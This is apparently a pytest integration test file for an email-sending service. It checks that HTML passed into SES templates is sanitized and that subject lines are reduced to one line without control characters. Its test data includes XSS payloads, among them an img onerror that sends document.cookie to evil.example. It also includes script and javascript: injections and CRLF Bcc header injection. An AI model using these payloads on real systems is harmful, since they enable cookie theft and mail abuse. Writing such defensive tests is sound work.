"""What the sender puts in SendEmail for an application's template: a producer's HTML fragment passed
through {{{x}}} arrives as sanitized markup in the Html body, and a subject is one header line whatever the
data holds. Each part is read from the SendEmail call itself (moto keeps only the HTML body)."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest

from groundskeeper.observability import logger
from tests.integration.email_sender.conftest import SenderWorld

# A round-robin scheduler's email: its producer builds the pairing rows itself, with player names in them.
PAIRINGS_HTML = (
    "<p>Round robin {{name}} has started! Your pairings:</p>"
    '<table style="width: 100%"><tr><th>Round</th><th>White</th><th>Black</th></tr>{{{pairingHtml}}}</table>'
    "<p>{{& footerHtml}}</p>"
)
PAIRING_ROWS = "\n".join(
    f'<tr>\n  <td style="padding-left: 4px">{n}</td>\n  <td style="padding-left: 4px">{white}</td>\n'
    f'  <td style="padding-left: 4px">{black}</td>\n</tr>'
    for n, white, black in [
        (1, "Ada", "Bye"),
        (2, '<img src=x onerror="fetch(`https://evil.example/`+document.cookie)">Mallory', "Ada"),
        (3, "Bob", '<a href="javascript:alert(1)">Eve</a><script>alert(2)</script>'),
    ]
)
FOOTER = '<a href="https://chess.example/tournaments?cohort=1200-1300" target="_blank">Your tournament</a>'


def send(world: SenderWorld, template: dict[str, str], data: dict[str, Any]) -> Any:
    world.ses.create_template(Template={"TemplateName": "app", **template})
    result = world.invoke(world.record({"template": "app", "to": ["ada@example.com"], "data": data}))
    assert result == {"batchItemFailures": []}
    assert world.dead_letters() == []
    [sent] = world.sent()
    return sent


def test_a_producers_table_rows_arrive_as_rows_sanitized(world: SenderWorld) -> None:
    sent = send(
        world,
        {"SubjectPart": "Round robin {{name}}", "HtmlPart": PAIRINGS_HTML, "TextPart": "{{{pairingHtml}}}"},
        {"name": "1200-1300 Spring", "pairingHtml": PAIRING_ROWS, "footerHtml": FOOTER},
    )
    row = '<tr>\n  <td style="padding-left:4px">{}</td>\n  <td style="padding-left:4px">{}</td>\n  <td style="padding-left:4px">{}</td>\n</tr>'  # noqa: E501
    rows = "\n".join(
        [
            row.format(1, "Ada", "Bye"),
            row.format(2, "<img>Mallory", "Ada"),
            row.format(3, "Bob", '<a rel="noopener noreferrer">Eve</a>'),
        ]
    )
    link = (
        '<a href="https://chess.example/tournaments?cohort=1200-1300" rel="noopener noreferrer">'
        "Your tournament</a>"
    )
    assert sent.html == (
        "<p>Round robin 1200-1300 Spring has started! Your pairings:</p>"
        f'<table style="width: 100%"><tr><th>Round</th><th>White</th><th>Black</th></tr>{rows}</table>'
        f"<p>{link}</p>"
    )
    assert sent.text == PAIRING_ROWS  # the text part is plain text: the markup as written


def test_a_fragment_in_an_attribute_or_a_style_element_stays_escaped(world: SenderWorld) -> None:
    sent = send(
        world,
        {
            "SubjectPart": "Hi",
            "HtmlPart": "<style>{{{css}}}</style><a href=\"{{{url}}}\" title='{{& url}}'>x</a>",
        },
        {"css": "p > b { color: red }</style><script>alert(1)</script>", "url": '" onmouseover="alert(1)'},
    )
    assert sent.html == (
        "<style>p &gt; b { color: red }&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>"
        '<a href="&quot; onmouseover&#x3D;&quot;alert(1)" '
        "title='&quot; onmouseover&#x3D;&quot;alert(1)'>x</a>"
    )


@pytest.mark.parametrize(
    ("name", "subject"),
    [
        ("Ada\r\nBcc: evil@example.com", "Welcome, Ada Bcc: evil@example.com"),
        ("Ada\nBcc: evil@example.com", "Welcome, Ada Bcc: evil@example.com"),
        ("Ada\x00\x1b[2J", "Welcome, Ada[2J"),
        ("Ada \u202egnp.exe", "Welcome, Ada gnp.exe"),
        ("\u2066Ada\u2069\t", "Welcome, Ada "),
    ],
)
def test_a_subject_from_data_is_one_line_without_controls(
    world: SenderWorld, capsys: pytest.CaptureFixture[str], name: str, subject: str
) -> None:
    log = io.StringIO()
    previous = logger.registered_handler.setStream(log)  # type: ignore[attr-defined]
    try:
        sent = send(
            world, {"SubjectPart": "Welcome, {{name}}", "TextPart": "Hello {{{name}}}"}, {"name": name}
        )
    finally:
        logger.registered_handler.setStream(previous)  # type: ignore[attr-defined]
    assert sent.subject == subject
    assert sent.text == f"Hello {name}"  # the body keeps what the data holds
    [folded] = [json.loads(line) for line in log.getvalue().splitlines() if "subject folded" in line]
    assert folded["template"] == "app" and folded["removed"]
    assert name not in log.getvalue()  # the code points, never the value
